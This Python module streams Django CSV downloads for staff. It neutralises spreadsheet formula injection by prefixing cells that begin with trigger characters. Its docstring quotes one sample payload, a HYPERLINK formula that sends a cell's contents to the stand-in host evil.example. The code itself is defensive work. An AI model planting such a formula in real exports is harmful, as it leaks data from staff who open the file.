"""CSV downloads for staff: streamed, and safe to open in a spreadsheet.

Every export goes through `csv_response`, so none can forget the formula rule: a cell
whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula
(or becomes one) in Excel, LibreOffice and Google Sheets — a client named
``=HYPERLINK("http://evil.example/?d="&A1,"Click")`` would run when staff open the file.
Such a cell is prefixed with a single quote (OWASP's rule for CSV injection), which the
spreadsheet shows as text and does not display.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from django.http import StreamingHttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a cell no spreadsheet evaluates; numbers and empty cells are left as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield writer.writerow([spreadsheet_safe(cell) for cell in header])
    for row in rows:
        yield writer.writerow([spreadsheet_safe(cell) for cell in row])


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> StreamingHttpResponse:
    """A streamed CSV download; ``rows`` is consumed lazily, so a million rows never sit in memory."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
